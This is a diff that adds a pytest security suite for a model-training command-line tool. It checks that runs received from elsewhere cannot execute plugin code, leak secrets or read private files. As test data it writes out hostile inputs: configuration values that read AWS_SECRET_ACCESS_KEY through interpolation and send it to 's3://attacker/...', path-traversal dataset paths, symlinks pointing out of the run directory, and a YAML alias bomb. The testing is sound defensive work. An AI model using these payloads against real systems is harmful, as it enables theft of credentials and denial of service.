@@ -1,0 +1,271 @@
+"""What a run from elsewhere may do: each hole that an attack once went through, attacked again."""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import os
+import shutil
+from pathlib import Path
+from typing import Any, NamedTuple
+
+import pytest
+import yaml
+from tests.tiny_run import make_run
+
+from bessemer.cli import main
+from bessemer.config.layers import saved_tree
+from bessemer.errors import InputError
+from bessemer.job import RunDirectory, find_run
+from bessemer.job.trust import adopt, check_trust, mark_origin, requests_of
+from bessemer.report import write_report
+from bessemer.report.summary import summarise
+
+PROOF = "ran.txt"
+SECRET = "AKIA-not-for-you"
+
+
+@pytest.fixture
+def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The user's working directory, with a file beside it that no run should read."""
+    folder = tmp_path / "work"
+    folder.mkdir()
+    (tmp_path / "private.txt").write_text(f"password {SECRET}\n" * 50)
+    monkeypatch.chdir(folder)
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
+    return folder
+
+
+def sent(place: Path, tree: dict[str, Any], name: str = "foreign") -> RunDirectory:
+    """A run as it comes out of somebody's archive: a configuration, and code and recipes beside it."""
+    run = RunDirectory(place / "runs" / name).create()
+    run.config.write_text(yaml.safe_dump(tree))
+    (run.path / "evil.py").write_text(f"open({str(place / PROOF)!r}, 'w').write('ran')\n")
+    (run.path / "evil.yaml").write_text(
+        yaml.safe_dump({"extends": "quickstart", "plugins": [str(run.path / "evil.py")]})
+    )
+    (run.path / "innocent.yaml").write_text("extends: evil.yaml\n")
+    (run.path / "tasks.yaml").write_text("task: x\nprocess_results: !function evil.run\n")
+    return run
+
+
+class Called(NamedTuple):
+    exit_code: int
+    output: str
+
+
+def called(*words: str) -> Called:
+    """A command in this process, as from a shell: its exit code, and all it prints."""
+    output = io.StringIO()
+    with contextlib.redirect_stdout(output), contextlib.redirect_stderr(output):
+        try:
+            main(list(words))
+        except SystemExit as end:
+            return Called(int(end.code or 0), output.getvalue())
+    raise AssertionError("a command always exits")
+
+
+def refused(place: Path, run: RunDirectory, *names: str) -> None:
+    """`bessemer resume` ends with 2 and names what it would not do; nothing of the run was executed."""
+    result = called("resume", str(run.path))
+    assert result.exit_code == 2, result.output
+    assert "--trust" in result.output
+    for name in names:
+        assert name in result.output, result.output
+    assert not (place / PROOF).exists()
+
+
+RECIPE = "recipe:runs/foreign/evil.yaml"
+TOY = {"recipe": "quickstart"}
+NAMES_CODE: dict[str, dict[str, Any]] = {
+    "init of a job of phases": {"job": "phases", "init": RECIPE, "phases": {"a": TOY}},
+    "init of a phase": {"job": "phases", "phases": {"a": {**TOY, "init": RECIPE}}},
+    "teacher of a phase": {"job": "phases", "phases": {"a": {**TOY, "distill": {"teacher": RECIPE}}}},
+    "teacher of a phase, one word": {"job": "phases", "phases": {"a": {**TOY, "distill.teacher": RECIPE}}},
+    "recipe of a phase": {"job": "phases", "phases": {"a": {"recipe": "runs/foreign/evil.yaml"}}},
+    "recipe that extends another": {
+        "job": "phases",
+        "phases": {"a": {"recipe": "runs/foreign/innocent.yaml"}},
+    },
+    "plugins of a phase": {"job": "phases", "phases": {"a": {**TOY, "plugins": ["runs/foreign/evil.py"]}}},
+    "init of a run": {"job": "BaseTrainer", "init": RECIPE},
+    "teacher of a run": {"job": "BaseTrainer", "objective": "distill", "distill": {"teacher": RECIPE}},
+    "plugin": {"job": "BaseTrainer", "plugins": ["runs/foreign/evil.py"]},
+    "reward": {"job": "BaseTrainer", "grpo": {"rewards": [{"name": "evil:run"}]}},
+    "reward in a file": {"job": "BaseTrainer", "grpo": {"rewards": ["runs/foreign/evil.py:run"]}},
+    "callback": {"job": "BaseTrainer", "callbacks": ["evil:run"]},
+    "a module with a strange name": {"job": "BaseTrainer", "callbacks": ["evil-one:run"]},
+    "a setting nobody knows yet": {"job": "BaseTrainer", "tomorrow": {"tool": "evil:run"}},
+    "a file of code anywhere": {"job": "BaseTrainer", "tomorrow": {"tool": ["runs/foreign/evil.py"]}},
+    "tasks of lm-eval": {"job": "BaseTrainer", "eval": {"evaluations": ["harness:runs/foreign/tasks.yaml"]}},
+    "tasks of lm-eval in a phase": {
+        "job": "phases",
+        "phases": {"a": {**TOY, "eval.evaluations": ["harness:piqa,runs/foreign/tasks.yaml"]}},
+    },
+}
+
+
+@pytest.mark.parametrize("tree", NAMES_CODE.values(), ids=NAMES_CODE)
+def test_code_is_not_run_by_any_name(place: Path, tree: dict[str, Any]) -> None:
+    refused(place, sent(place, tree), "was not started here")
+
+
+@pytest.mark.parametrize("tree", NAMES_CODE.values(), ids=NAMES_CODE)
+def test_the_owner_of_the_same_run_needs_no_flag(place: Path, tree: dict[str, Any]) -> None:
+    run = sent(place, tree)
+    mark_origin(run, saved_tree(run.config))
+    check_trust(run)
+    shutil.move(run.path, place / "moved")
+    check_trust(RunDirectory(place / "moved"))
+
+
+def test_shipped_recipes_and_tasks_of_the_harness_are_nobodys_code(place: Path) -> None:
+    tree = {
+        "job": "phases",
+        "init": "recipe:quickstart",
+        "phases": {"a": {**TOY, "distill.teacher": "recipe:quickstart"}},
+        "eval": {"evaluations": ["bpb", "harness:piqa,copa", "exact:digits"]},
+        "data": {"tokenizer": "train:300"},
+    }
+    assert requests_of(tree) == []
+    check_trust(sent(place, tree))
+
+
+@pytest.mark.parametrize(
+    "word",
+    [
+        "${oc.env:AWS_SECRET_ACCESS_KEY}",
+        "s3://attacker/${oc.env:AWS_SECRET_ACCESS_KEY}",
+        "${oc.decode:${oc.env:AWS_SECRET_ACCESS_KEY}}",
+        "${ oc.env:AWS_SECRET_ACCESS_KEY }",
+        "${oc.env:${name}}",
+        "\\\\${oc.env:AWS_SECRET_ACCESS_KEY}",
+        "${oc.select:a,${oc.env:AWS_SECRET_ACCESS_KEY}}",
+    ],
+)
+@pytest.mark.parametrize("trust", [False, True])
+def test_the_environment_is_not_read_for_a_saved_configuration(place: Path, word: str, trust: bool) -> None:
+    run = make_run(place, "foreign")
+    run.config.write_text(run.config.read_text() + f"logging: {{mirror: '{word}'}}\n")
+    copy = run.checkpoints / "step_00000020/config.yaml"
+    words = ["resume", str(run.path), *(["--trust"] if trust else [])]
+    for output in (called(*words), called("doctor", str(run.path)), called("report", str(run.path))):
+        assert SECRET not in output.output
+    assert called(*words).exit_code == 2
+    write_report(run)
+    texts = [path.read_text(errors="replace") for path in run.path.rglob("*") if path.is_file()]
+    assert not any(SECRET in text for text in texts)
+    assert SECRET not in str(summarise(run))
+    with pytest.raises(InputError, match="may refer to its own settings only"):
+        saved_tree(run.config)
+    assert copy.is_file()
+
+
+def test_settings_may_refer_to_each_other_and_a_written_dollar_stays_text(place: Path) -> None:
+    run = sent(place, {"a": {"b": 3, "c": "${a.b}", "d": "\\${oc.env:AWS_SECRET_ACCESS_KEY}"}})
+    assert saved_tree(run.config)["a"] == {"b": 3, "c": 3, "d": "${oc.env:AWS_SECRET_ACCESS_KEY}"}
+
+
+@pytest.mark.parametrize(
+    ("section", "word"),
+    [
+        ({"logging": {"mirror": "s3://attacker/runs"}}, "s3://attacker/runs"),
+        ({"logging": {"wandb": True}}, "logging.wandb"),
+        ({"training": {"dataset": "{private}"}}, "private.txt"),
+        ({"training": {"dataset": [[{"name": "../private.txt"}]]}}, "private.txt"),
+        ({"data": {"tokenizer": "{private}"}}, "data.tokenizer"),
+        ({"init": "{private}"}, "--base"),
+        ({"distill": {"teacher": "{private}"}}, "--base"),
+        ({"eval": {"evaluations": ["gsm8k:{private}"]}}, "eval.evaluations"),
+    ],
+    ids=str,
+)
+def test_nothing_is_sent_or_opened_outside(place: Path, section: dict[str, Any], word: str) -> None:
+    private = str(place.parent / "private.txt")
+    text = yaml.safe_dump({"job": "BaseTrainer", **section}).replace("{private}", private)
+    run = sent(place, yaml.safe_load(text))
+    refused(place, run, word)
+    adopt(run)
+    check_trust(run)
+
+
+def test_what_the_user_gives_now_is_the_users(place: Path) -> None:
+    private = str(place.parent / "private.txt")
+    tree = {"logging": {"mirror": "s3://mine/runs"}, "training": {"dataset": [[{"name": private}]]}}
+    run = sent(place, tree)
+    with pytest.raises(InputError, match="private"):
+        check_trust(run, given=["logging/mirror"])
+    check_trust(run, given=["logging/mirror", "training/dataset"])
+    check_trust(run, given=["training/dataset"], mirror="s3://mine/runs")
+
+
+def test_code_is_refused_even_where_the_user_gives_other_code(place: Path) -> None:
+    """The run's own configuration is read before anything replaces it."""
+    run = sent(place, {"job": "BaseTrainer", "plugins": ["runs/foreign/evil.py"]})
+    result = called("resume", str(run.path), "plugins=[]")
+    assert result.exit_code == 2 and "evil.py" in result.output and not (place / PROOF).exists()
+
+
+def test_data_below_the_working_directory_may_be_read(place: Path) -> None:
+    (place / "texts.txt").write_text("some text\n")
+    tree = {"training": {"dataset": [[{"name": str(place / "texts.txt")}]]}, "init": "/gone/away"}
+    check_trust(sent(place, tree))
+
+
+def test_the_secret_of_this_user_is_not_data(place: Path, home: Path) -> None:
+    mark_origin(sent(place, {"plugins": ["a.py"]}, "own"), {"plugins": ["a.py"]})
+    assert (home / "secret").is_file()
+    with pytest.raises(InputError, match="secret"):
+        check_trust(sent(place, {"training": {"dataset": str(home / "secret")}}))
+
+
+LINKED = ["notes.txt", "metrics.jsonl", "eval/x.json", "model/tokenizer.json", "checkpoints/step_00000010"]
+
+
+@pytest.mark.parametrize("name", LINKED)
+def test_links_out_of_a_run_are_not_followed(place: Path, name: str) -> None:
+    run = make_run(place, "foreign", steps=(20,))
+    link = run.path / name
+    link.parent.mkdir(exist_ok=True)
+    link.symlink_to(place.parent / "private.txt")
+    for command in ("report", "doctor", "resume"):
+        result = called(command, str(run.path))
+        assert result.exit_code == 2 and "links to" in result.output, result.output
+        assert SECRET not in result.output
+    assert summarise(run).state == "refused"
+    assert "is not read" in called("runs", str(run.path.parent)).output
+    adopt(find_run(run.path, trust=True))
+    assert find_run(run.path).path == run.path, "a link that the owner trusts once is the owner's"
+
+
+def test_links_within_a_run_are_followed(place: Path) -> None:
+    run = make_run(place, "mine", steps=(20,))
+    (run.path / "best").symlink_to("checkpoints/step_00000020")
+    assert find_run(run.path).path == run.path
+
+
+def test_a_pipe_in_a_run_does_not_hang(place: Path) -> None:
+    run = make_run(place, "foreign", steps=(20,))
+    os.mkfifo(run.metrics)
+    assert called("report", str(run.path)).exit_code == 2
+    assert called("runs", str(run.path.parent)).exit_code == 0
+
+
+BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
+    f"{new}: &{new} [{','.join(['*' + old] * 9)}]\n" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
+)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [BOMB, "a: " + "[" * 5000 + "]" * 5000, "a:" * 3000, "x" * (17 << 20)],
+    ids=["aliases", "nested", "a:a:", "long"],
+)
+def test_a_configuration_that_explodes_is_bad_input(place: Path, text: str) -> None:
+    run = sent(place, {})
+    run.config.write_text(text)
+    result = called("resume", str(run.path))
+    assert result.exit_code == 2 and str(run.config) in result.output, result.output
+    (place / "recipe.yaml").write_text(text)
+    result = called("config", "recipe.yaml")
+    assert result.exit_code == 2 and "recipe.yaml" in result.output, result.output
